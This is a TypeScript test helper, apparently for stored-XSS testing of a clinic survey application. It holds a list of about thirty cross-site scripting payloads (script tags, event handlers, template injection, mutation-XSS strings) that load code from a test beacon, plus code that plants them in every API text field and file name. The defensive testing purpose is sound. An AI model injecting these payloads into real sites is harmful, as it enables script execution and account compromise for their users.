import { createHash } from 'node:crypto'
import { formOf } from '../../../apps/server/testing/recordings.ts'
import { call, type Examiner, recordingOf, type Session, startSession, upload } from '../client.ts'
import type { Clinic } from '../clinic.ts'
import { importSurveys, poisonedAnswers } from './poisoned-survey.ts'

/** `@` stands for the address that the payload calls. */
const templates: readonly string[] = [
  ...['<img src=@>', '<script src=@></script>', `<svg onload=import('@')>`, `"><img src=x onerror=import('@')>`],
  ...['<iframe src=@>', `javascript:import('@')`, `'-import('@')-'`, `{{constructor.constructor("import('@')")()}}`],
  ...[
    `<style>body{background:url(@)}</style>`,
    '<link rel=stylesheet href=@>',
    '<base href=@>',
    '<form action=@><button>',
  ],
  ...[
    `<a href=javascript:import('@')>x</a>`,
    `</title><script>import('@')</script>`,
    '<object data=@>',
    '<embed src=@>',
  ],
  ...[`<input autofocus onfocus=import('@')>`, `<details open ontoggle=import('@')>`, '<video src=@ autoplay>'],
  ...['<meta http-equiv=refresh content=0;url=@>', `\${import('@')}`, '<svg><use href=@#x>', '&lt;img src=@&gt;'],
  ...[
    '<!--><img src=@>-->',
    '<math><mtext><table><mglyph><style><img src=@>',
    '\\u003cimg src=@\\u003e',
    '"/><!--<img src=@>',
  ],
]

/** Each calls the beacon with its own number. */
export const scriptPayloads = (beacon: string): string[] =>
  templates.map((template, index) => template.replaceAll('@', `${beacon.replace('http:', '')}/${index}`))

/** The item of the session that is recorded and has a transcript; the others are skipped. */
export const spokenItem = 3

export type Poisoned = { participantId: string; sessionId: string; payload: string }

/** Creates a participant for each payload, with a session, a file, a filled survey and people, and it in every text. */
export async function poisonAll(clinic: Clinic, examiner: Examiner, payloads: readonly string[]): Promise<Poisoned[]> {
  const surveys = await importSurveys(clinic, examiner, payloads)
  const { body } = await examiner.get('/user/examiner_info/')
  await send(clinic.baseUrl, examiner, 'PATCH', `/organizations/examiners/${body.id}/`, { surveys })
  const poisoned: Poisoned[] = []
  for (const [index, payload] of payloads.entries()) {
    // All payloads together may take longer than a token is valid.
    await examiner.renew()
    poisoned.push(await poison(clinic, examiner, payload, surveys[index]!))
  }
  return poisoned
}

async function poison(clinic: Clinic, examiner: Examiner, payload: string, survey_id: string): Promise<Poisoned> {
  const { baseUrl } = clinic
  const session = await startSession(examiner, { first_name: payload, last_name: payload })
  const patch = (path: string, value: object) => send(baseUrl, examiner, 'PATCH', path, value)
  const post = (path: string, value: object) => send(baseUrl, examiner, 'POST', path, value)
  const texts = { code: payload.slice(0, 64), occupation: payload, diagnose: payload }
  await patch(`/user/participants/${session.participantId}/`, texts)
  await patch(session.path, { comment: payload })
  const spoken = session.pathOf(session.items[spokenItem - 1]!)
  for (const item of session.items.filter(({ skippable }, index) => skippable && index !== spokenItem - 1))
    await post(session.pathOf(item), { skipped_purpose: payload })
  expectTaken(await upload(baseUrl, examiner, spoken, recordingOf(8)))
  await post(`${spoken}transcript/`, { text: payload, based_on: 0 })
  await sendNotes(baseUrl, examiner, session, payload)
  const answers = { survey_id, response: poisonedAnswers(payload) }
  await post(`/surveys/responses/${session.participantId}/`, answers)
  const report = { error: payload, url: payload, method: 'GET', data: payload, user_comment: payload }
  await post('/reports/server_error_user_report/', report)
  await poisonPeople(clinic, examiner, payload)
  return { participantId: session.participantId, sessionId: session.id, payload }
}

/** The organisation's name is on every page. It is set once, at the set-up, and no call changes it. */
export const nameOrganization = ({ database, organizationId }: Clinic, name: string) =>
  database.tenant(organizationId, (tx) =>
    tx.updateTable('organizations').set({ name }).where('id', '=', organizationId).execute(),
  )

async function poisonPeople({ baseUrl }: Clinic, examiner: Examiner, payload: string) {
  const { body } = await examiner.get('/cms/locales/')
  const [locale] = body as unknown as { id: string }[]
  const email = `${createHash('sha256').update(payload).digest('hex').slice(0, 12)}@faults.example`
  const tags = payload.length <= 50 ? [payload] : []
  const person = { first_name: payload, last_name: payload, email, locale: locale?.id, tags }
  await send(baseUrl, examiner, 'POST', '/organizations/user/', person)
  const nobody = { sex: null, age_min: null, age_max: null, education_min: null, education_max: null }
  const rule = { ...nobody, locale: null, protocol: null, diagnosis: { contains: payload } }
  await send(baseUrl, examiner, 'POST', '/ai/populations/', { name: payload, rule })
}

/** Sends a file whose name and label are the payload. */
async function sendNotes(baseUrl: string, examiner: Examiner, { participantId }: Session, payload: string) {
  const form = formOf(Buffer.from('notes'), { label: payload }, 'file')
  const name = `filename*=utf-8''${encodeURIComponent(payload)}.txt`
  const body = Buffer.from(form.payload.toString('latin1').replace('filename="item.wav"', name), 'latin1')
  const headers = { ...form.headers, ...examiner.headers(), 'content-length': String(body.length) }
  expectTaken(await call(`${baseUrl}/api/files/${participantId}/`, { headers, body }))
}

async function send(baseUrl: string, examiner: Examiner, method: string, path: string, value: object) {
  const headers = { 'content-type': 'application/json', ...examiner.headers() }
  expectTaken(await call(`${baseUrl}/api${path}`, { method, headers, body: Buffer.from(JSON.stringify(value)) }))
}

function expectTaken({ status, body }: { status: number; body: object }) {
  if (status >= 300) throw new Error(`a payload was refused: ${status} ${JSON.stringify(body)}`)
}
